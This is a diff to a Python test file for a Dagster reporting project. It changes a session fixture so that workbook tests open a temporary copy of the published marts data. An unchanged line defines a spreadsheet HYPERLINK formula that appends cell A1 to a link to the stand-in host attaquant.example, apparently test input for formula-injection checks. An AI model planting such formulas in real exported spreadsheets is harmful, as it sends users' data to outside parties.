@@ -12,6 +12,7 @@ from dagster_project.release.pages import WORKBOOKS
 from dagster_project.report.marts import Marts
 from dagster_project.report.workbooks import build_workbooks
 from dagster_project.settings import Settings
+from tests.release.publishing import copy_of
 
 FORMULA = '=HYPERLINK("http://attaquant.example/?"&A1;"cliquez")'
 
@@ -33,9 +34,9 @@ class Workbooks:
 
 
 @pytest.fixture(scope="session")
-def workbooks(published: Settings) -> Iterator[Workbooks]:
+def workbooks(published: Settings, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Workbooks]:
     folder = published.served.resolve().parent / WORKBOOKS
-    with Marts.opened(published.served) as marts:
+    with Marts.opened(copy_of(published, tmp_path_factory.mktemp("marts"))) as marts:
         yield Workbooks(folder, marts)
 
 
